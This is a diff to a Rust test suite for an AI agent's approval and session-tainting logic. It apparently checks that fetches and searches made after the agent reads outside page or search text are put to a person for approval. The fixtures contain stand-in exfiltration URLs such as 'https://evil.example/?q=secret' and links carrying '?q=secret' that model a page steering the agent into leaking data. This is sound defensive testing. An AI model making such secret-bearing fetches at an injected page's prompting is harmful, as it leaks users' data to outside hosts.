@@ -21,22 +21,23 @@ use crate::rig::{Rig, said, settings, turn_of};
 const EVIL: &str = "https://evil.example/?q=secret";
 
 fn page() -> Value {
-    json!({"url": "https://page.example/a"})
+    json!({"url": "https://page.example/"})
 }
 
 fn tools() -> Vec<TestTool> {
     let done = |name: &str| TestTool::new(name, |_, _| async { closed(Outcome::done("ok")) });
-    let fetch = done("fetch")
-        .effect(Effect::Read)
-        .knowing(|args| CallFacts {
-            grants: Some(Vec::new()),
-            outside: Some(OutsideText::Plain),
-            sends: args["url"]
-                .as_str()
-                .map(|url| Sends::ToHostOf(url.to_owned())),
-            ..CallFacts::default()
-        });
-    let results = json!({"results": [{"url": "https://found.example/x", "title": "t"}]});
+    let fetch = TestTool::new("fetch", |_, _| async {
+        closed(Outcome::done("see [more](https://linked.example/a)"))
+    });
+    let fetch = fetch.effect(Effect::Read).knowing(|args| CallFacts {
+        grants: Some(Vec::new()),
+        outside: Some(OutsideText::Page),
+        sends: args["url"]
+            .as_str()
+            .map(|url| Sends::Address(url.to_owned())),
+        ..CallFacts::default()
+    });
+    let results = json!({"results": [{"url": "https://found.example/", "title": "t"}]});
     let search = TestTool::new("search", move |_, _| {
         let found = Outcome::done("https://text.example").with_data(results.clone());
         async { closed(found) }
@@ -44,6 +45,7 @@ fn tools() -> Vec<TestTool> {
     let search = search.knowing(|_| CallFacts {
         grants: Some(Vec::new()),
         outside: Some(OutsideText::Search),
+        sends: Some(Sends::Query),
         ..CallFacts::default()
     });
     let changes = Arc::new(Mutex::new(json!(1)));
@@ -120,7 +122,7 @@ async fn asked(rig: &Rig, text: &str) -> String {
 }
 
 /// What a person says, which calls are asked about (a) and which are not (r), and the calls.
-const ROWS: [(&str, &str, &str); 13] = [
+const ROWS: [(&str, &str, &str); 16] = [
     ("go", "rr", "keep:a.md keep:AGENTS.md"),
     ("go", "rr", "send keep:a.md"),
     ("go", "ra", "fetch:page.example send"),
@@ -133,7 +135,7 @@ const ROWS: [(&str, &str, &str); 13] = [
         "raa",
         "fetch:page.example fetch:evil.example fetch:page.example",
     ),
-    // Who allows a page knows its host.
+    // Who allows an address gives it.
     (
         "go",
         "rar",
@@ -149,13 +151,24 @@ const ROWS: [(&str, &str, &str); 13] = [
         "ra",
         "fetch:page.example fetch:evil.example",
     ),
+    (
+        "read page.example/a",
+        "ra",
+        "fetch:page.example/a fetch:page.example/a?q=secret",
+    ),
     ("go", "rra", "search fetch:found.example fetch:text.example"),
+    ("go", "rr", "fetch:page.example fetch:linked.example/a"),
+    (
+        "go",
+        "ra",
+        "fetch:page.example fetch:linked.example/a?q=secret",
+    ),
     ("go", "rra", "fetch:page.example keep:a.md keep:AGENTS.md"),
 ];
 
 fn calls(row: &'static str) -> Vec<(&'static str, Value)> {
     let call = |word: &'static str| match word.split_once(':') {
-        Some(("fetch", host)) => ("fetch", json!({"url": format!("https://{host}/")})),
+        Some(("fetch", address)) => ("fetch", json!({"url": format!("https://{address}")})),
         Some((name, path)) => (name, json!({ "path": path })),
         None => (word, json!({})),
     };
@@ -207,6 +220,30 @@ async fn a_session_stays_tainted_and_knows_what_was_named_after_a_restart() {
 
     assert!(rig.row().await.tainted);
     assert_eq!(asked(&rig, "go on").await, "arra");
+}
+
+// proves TL-10
+#[tokio::test(start_paused = true)]
+async fn a_search_after_text_from_outside_is_asked_about_once_a_session_unless_the_level_is_auto() {
+    let supervised = Settings {
+        approval: Approval::Supervised,
+        ..settings()
+    };
+    let next = |said: &str, results: usize| match (said, results) {
+        ("first", 0) => call("fetch", page()),
+        ("first", 1 | 2) | ("again", 0) => call("search", json!({})),
+        ("first" | "again", 3 | 1) => call("fetch", json!({"url": "https://found.example/"})),
+        _ => say("done"),
+    };
+    let rig = Rig::by(next, tools(), supervised).await;
+    assert_eq!(asked(&rig, "first").await, "rarr");
+    let rig = rig.restart().await;
+    assert_eq!(asked(&rig, "again").await, "rr");
+
+    // What a search found unasked after text from outside, a page may have led it to.
+    let row = "fetch:page.example search fetch:found.example";
+    let rig = self::rig(&calls(row), auto()).await;
+    assert_eq!(asked(&rig, "go").await, "rra");
 }
 
 // proves TL-10
